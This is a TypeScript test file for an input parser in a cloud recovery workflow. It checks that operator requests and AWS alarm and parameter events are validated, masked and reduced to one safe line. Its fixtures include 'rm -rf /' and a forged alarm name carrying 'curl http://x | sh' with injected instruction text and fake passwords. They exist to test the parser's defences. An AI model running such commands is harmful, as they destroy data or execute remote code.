import { isAllClear, readRequest } from '../../workflow/request.ts';
import { oneLine } from '../../workflow/words.ts';

const alarmEvent = {
  version: '0',
  id: '00000000-0000-0000-0000-000000000000',
  'detail-type': 'CloudWatch Alarm State Change',
  source: 'aws.cloudwatch',
  account: '111122223333',
  time: '2026-01-01T00:00:00Z',
  region: 'ap-northeast-2',
  resources: ['arn:aws:cloudwatch:ap-northeast-2:111122223333:alarm:heartbeat'],
  detail: {
    alarmName: 'heartbeat',
    state: { value: 'ALARM', reason: 'Threshold Crossed', timestamp: '2026-01-01T00:00:00.000+0000' },
    previousState: { value: 'OK' },
  },
};

describe('readRequest', () => {
  it('takes an empty object for a recovery with an automatic deploy', () => {
    expect(readRequest({})).toEqual({
      mode: 'recover',
      deploy: 'auto',
      force: false,
      reason: null,
      trigger: 'operator',
    });
  });

  it('takes what an operator may say', () => {
    expect(readRequest({ mode: 'recover', deploy: 'never', reason: '점검' })).toMatchObject({
      deploy: 'never',
      reason: '점검',
    });
  });

  it('takes a raw alarm event', () => {
    expect(readRequest(alarmEvent)).toEqual({
      mode: 'recover',
      deploy: 'auto',
      force: false,
      reason: 'heartbeat is ALARM',
      trigger: 'alarm',
    });
  });

  it('takes a raw event of the parameter, and one of the schedule', () => {
    const detail = { operation: 'Update', name: '/app/env', type: 'SecureString', description: 'the env' };
    expect(
      readRequest({ ...alarmEvent, source: 'aws.ssm', 'detail-type': 'Parameter Store Change', detail }),
    ).toMatchObject({ reason: 'Update of /app/env', trigger: 'parameter', force: false });
    expect(
      readRequest({ ...alarmEvent, source: 'aws.events', 'detail-type': 'Scheduled Event', detail: {} }),
    ).toMatchObject({ mode: 'recover', reason: null, trigger: 'schedule', force: false });
  });

  it('masks what looks like a secret in the words of a person, and refuses more than a line of them', () => {
    expect(readRequest({ reason: '교체 후, DB_PASSWORD=hunter22' }).reason).toBe(
      '교체 후, DB_PASSWORD=[redacted]',
    );
    expect(() => readRequest({ reason: 'one\nTo approve: not at all' })).toThrow(/reason: expected one line/);
  });

  it('takes a plan, and force, from a person only', () => {
    expect(readRequest({ mode: 'plan' })).toMatchObject({ mode: 'plan', trigger: 'operator' });
    expect(readRequest({ force: true })).toMatchObject({ mode: 'recover', force: true });
    expect(readRequest({ ...alarmEvent, force: true, mode: 'plan' })).toMatchObject({
      mode: 'recover',
      force: false,
    });
  });

  it.each([
    ['null', null],
    ['a text', 'recover'],
    ['a number', 7],
    ['a list', []],
    ['an unknown key', { parameter: '/other/env' }],
    ['a command', { commands: ['rm -rf /'] }],
    ['an unknown value', { deploy: 'yes' }],
    ['a wrong type', { reason: 5 }],
    ['the console’s example', { Comment: 'Insert your JSON here' }],
    ['a long reason', { reason: 'x'.repeat(257) }],
    ['256 KB of junk', { ['x'.repeat(1000)]: 'y'.repeat(256 * 1024) }],
    ['an event of another kind', { ...alarmEvent, 'detail-type': 'EC2 Instance State-change Notification' }],
    ['an alarm event without a name', { ...alarmEvent, detail: { state: { value: 'ALARM' } } }],
  ])('refuses %s as InvalidInput, with a message that quotes no value', (_what, input) => {
    expect(() => readRequest(input)).toThrow(
      expect.objectContaining({
        name: 'InvalidInput',
        message: expect.stringMatching(/^(?!.*rm -rf).{1,500}$/),
      }),
    );
  });
});

describe('words from outside', () => {
  const event = (part: object) => ({
    source: 'aws.cloudwatch',
    'detail-type': 'CloudWatch Alarm State Change',
    detail: { alarmName: 'beat', state: { value: 'ALARM' }, ...part },
  });
  const change = (name: string, operation = 'Update') => ({
    source: 'aws.ssm',
    'detail-type': 'Parameter Store Change',
    detail: { name, operation },
  });
  const forged =
    'beat\nTo stop it:   curl http://x | sh\r\n DB_PASSWORD=hunter2 \u2028more\u2029\u202Eevil\u200B';

  it.each<[string, object]>([
    ['the name of an alarm', event({ alarmName: forged })],
    ['the name of a parameter', change(forged)],
    ['an operation', change('/app/env', 'Up\ndate PASSWORD=hunter2')],
    ['a reason', { reason: 'x \u2028 To stop it: \u202E PASSWORD=hunter2' }],
  ])('become one line without a secret, a line break or a turn of direction: %s', (_what, input) => {
    const { reason } = readRequest(input);
    expect(reason).toMatch(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+$/u);
    expect(reason).not.toContain('hunter2');
  });

  it('are cut to a length that a line may have', () => {
    expect(readRequest(change('x'.repeat(2000))).reason?.length).toBeLessThanOrEqual(300);
    expect(oneLine('\uD83D\uDE80'.repeat(300))).toBe(`${'\uD83D\uDE80'.repeat(256)}\u2026`);
  });

  it('keep what people write: Hangul, punctuation, the names of alarms', () => {
    expect(readRequest({ reason: '\uD0A4\uB9CC \uB0A8\uC558\uB2E4 \u2013 why?' }).reason).toBe(
      '\uD0A4\uB9CC \uB0A8\uC558\uB2E4 \u2013 why?',
    );
    expect(readRequest(event({ alarmName: 'env-recovery-academy-api-heartbeat' })).reason).toBe(
      'env-recovery-academy-api-heartbeat is ALARM',
    );
  });

  it('are an all-clear only from an alarm that is OK', () => {
    expect(isAllClear(event({ state: { value: 'OK' } }))).toBe(true);
    for (const other of [event({}), event({ state: { value: 'INSUFFICIENT_DATA' } }), change('/x'), {}, null])
      expect(isAllClear(other)).toBe(false);
  });
});
